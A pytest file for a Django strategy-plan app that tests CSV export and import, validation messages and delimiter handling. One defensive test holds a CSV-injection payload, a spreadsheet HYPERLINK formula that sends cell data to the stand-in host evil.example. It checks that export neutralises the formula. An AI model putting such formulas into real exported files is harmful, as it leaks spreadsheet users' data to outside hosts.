import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.utils import translation

from apps.strategy import services
from apps.strategy.demo import load_plan, load_plan_data
from apps.strategy.models import FocusArea, Goal, Initiative
from apps.strategy.plan_csv import COLUMNS, PlanImportError, column_labels, export_plan, plan_import
from tests.conftest import unit
from tests.factories import StrategyPlanFactory, add_unit

pytestmark = pytest.mark.django_db


def _content(plan):
    """Everything a user sees of a plan's content, without database ids."""
    areas = [(a.title, a.focus, a.narrative) for a in plan.focus_areas.order_by("position")]
    goals = [
        (g.focus_area.title, g.text, g.indicator_unit, g.indicator_baseline, g.indicator_target,
         g.indicator_current, g.indicator_target_date)
        for g in Goal.objects.filter(focus_area__plan=plan).order_by("focus_area__position", "position")
    ]  # fmt: skip
    initiatives = [
        (i.focus_area.title, i.goal.text if i.goal else None, i.implements.text if i.implements else None,
         i.text, i.level, i.status, i.progress, i.start_date, i.due_date,
         i.responsible_unit.code if i.responsible_unit else None,
         i.responsible_person.email if i.responsible_person else None)
        for i in Initiative.objects.filter(focus_area__plan=plan).order_by("focus_area__position", "position")
    ]  # fmt: skip
    return areas, goals, initiatives


def test_round_trip_export_then_import_into_an_empty_plan_gives_the_same_content(org, board_member):
    add_unit(org, "FF-VL", "Fylke")
    plan, initiatives = load_plan(load_plan_data("fagforbundet_2024_2025.json"), org)
    first = initiatives[0]
    first.status, first.progress, first.start_date, first.due_date = (
        "in_progress",
        35,
        date(2024, 2, 1),
        date(2025, 6, 30),
    )
    first.responsible_unit, first.responsible_person = unit(org, "A1"), board_member
    first.save()
    goal = Goal.objects.filter(focus_area__plan=plan, indicator_target__isnull=False).first()
    goal.indicator_current = Decimal("4.5")
    goal.save()

    with translation.override("da"):
        text = export_plan(plan)
        header = column_labels()
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert rows[0] == header and header[0] == "Type"
    assert "4,5" in next(r for r in rows if r[0] == "goal" and r[COLUMNS.index("indicator_current")])
    services.plan_archive(plan=plan)  # one current plan per period: the copy takes over
    empty = StrategyPlanFactory(organization=org, start_year=2024, end_year=2025)
    count = plan_import(plan=empty, text=text)
    assert count == len(rows) - 1 == 6 + 27 + 85
    assert _content(empty) == _content(plan)


def _csv(rows):
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=COLUMNS)
    writer.writeheader()
    for row in rows:
        writer.writerow(row)
    return out.getvalue()


GOOD = [
    {"kind": "focus_area", "ref": "F1", "title": "Heltid"},
    {"kind": "goal", "ref": "G1", "focus_area_ref": "F1", "text": "Flere hele stillinger",
     "indicator_unit": "%", "indicator_baseline": "30", "indicator_target": "40,5"},
    {"kind": "initiative", "ref": "I1", "focus_area_ref": "F1", "goal_ref": "G1", "text": "Kartlegge deltid",
     "level": "national", "status": "planned", "progress": "0"},
    {"kind": "initiative", "ref": "I2", "focus_area_ref": "F1", "implements_ref": "I1", "text": "Kurs",
     "level": "county", "responsible_unit_code": "A"},
]  # fmt: skip


def test_import_reads_a_hand_made_file(plan):
    assert plan_import(plan=plan, text=_csv(GOOD)) == 4
    goal = Goal.objects.get(focus_area__plan=plan)
    assert goal.indicator_target == Decimal("40.5")
    county = Initiative.objects.get(level="county")
    assert county.implements.text == "Kartlegge deltid"
    assert county.responsible_unit.code == "A"


def test_bad_rows_are_named_and_nothing_is_imported(plan):
    bad = [
        *GOOD,
        {"kind": "initiative", "ref": "I3", "focus_area_ref": "F1", "text": "For meget", "progress": "150"},
        {"kind": "initiative", "ref": "I4", "focus_area_ref": "F1", "text": "Ukendt", "level": "galaxy"},
        {"kind": "initiative", "ref": "I5", "focus_area_ref": "F1", "text": "Baglæns",
         "start": "2026-05-01", "due": "2026-04-01"},
        {"kind": "goal", "ref": "G2", "focus_area_ref": "F1", "text": "Lige", "indicator_baseline": "5",
         "indicator_target": "5"},
        {"kind": "initiative", "ref": "I6", "focus_area_ref": "F9", "text": "Forældreløs"},
    ]  # fmt: skip
    with pytest.raises(PlanImportError) as caught:
        plan_import(plan=plan, text=_csv(bad))
    errors = caught.value.errors
    assert errors[0].startswith("Row 6:") and "0 to 100" in errors[0]
    assert errors[1].startswith("Row 7:") and "galaxy" in errors[1]
    assert errors[2].startswith("Row 8:") and "before the start" in errors[2]
    assert errors[3].startswith("Row 9:") and "differ from its baseline" in errors[3]
    assert errors[4].startswith("Row 10:") and "F9" in errors[4]
    assert not FocusArea.objects.filter(plan=plan).exists()


def test_import_refuses_a_plan_that_has_content(plan, area):
    with pytest.raises(PlanImportError):
        plan_import(plan=plan, text=_csv(GOOD))
    assert plan.focus_areas.count() == 1


def test_import_names_unknown_units_and_people(plan):
    stranger = {"responsible_unit_code": "NOPE", "responsible_email": "stranger@example.org"}
    rows = [GOOD[0], {"kind": "initiative", "ref": "I1", "focus_area_ref": "F1", "text": "x", **stranger}]
    with pytest.raises(PlanImportError) as caught:
        plan_import(plan=plan, text=_csv(rows))
    assert len(caught.value.errors) == 2
    assert all(e.startswith("Row 3:") for e in caught.value.errors)


def test_an_indicator_that_cannot_be_right_is_not_imported(plan):
    bad = [
        *GOOD,
        {"kind": "goal", "ref": "G2", "focus_area_ref": "F1", "text": "Gammelt mål", "indicator_unit": "%",
         "indicator_baseline": "30", "indicator_target": "40", "indicator_target_date": "1999-12-31"},
        {"kind": "goal", "ref": "G3", "focus_area_ref": "F1", "text": "Færre", "indicator_unit": "medlemmer",
         "indicator_baseline": "-10", "indicator_target": "20", "indicator_current": "-3"},
    ]  # fmt: skip
    with pytest.raises(PlanImportError) as caught:
        plan_import(plan=plan, text=_csv(bad))
    errors = caught.value.errors
    assert errors[0] == "Row 6: The target date must lie within the plan's period, 2025–2028."
    assert errors[1].startswith("Row 7: A count or a percentage cannot be below 0.")
    assert len(errors) == 2  # one message, though two values are negative
    assert not FocusArea.objects.filter(plan=plan).exists()


def test_a_formula_in_a_title_goes_out_harmless_and_comes_back_unchanged(org):
    """OWASP CSV injection: a spreadsheet must not run a focus-area title as a formula."""
    plan = StrategyPlanFactory(organization=org, start_year=2024, end_year=2025)
    title = '=HYPERLINK("http://evil.example/?"&A1;"Klik")'
    FocusArea.objects.create(plan=plan, title=title, position=1)
    with translation.override("da"):
        text = export_plan(plan)
    row = next(csv.reader(io.StringIO(text.lstrip("\ufeff").splitlines()[1]), delimiter=";"))
    assert row[COLUMNS.index("title")] == "'" + title
    services.plan_archive(plan=plan)
    copy = StrategyPlanFactory(organization=org, start_year=2024, end_year=2025)
    plan_import(plan=copy, text=text)
    assert copy.focus_areas.get().title == title


def test_an_english_export_is_comma_separated_and_imports_too(org):
    plan = StrategyPlanFactory(organization=org, start_year=2024, end_year=2025)
    FocusArea.objects.create(plan=plan, title="Members, first", position=1)
    with translation.override("en"):
        text = export_plan(plan)
    assert text.lstrip("\ufeff").startswith("Kind,Reference,")
    services.plan_archive(plan=plan)
    copy = StrategyPlanFactory(organization=org, start_year=2024, end_year=2025)
    with translation.override("da"):
        assert plan_import(plan=copy, text=text) == 1
    assert copy.focus_areas.get().title == "Members, first"
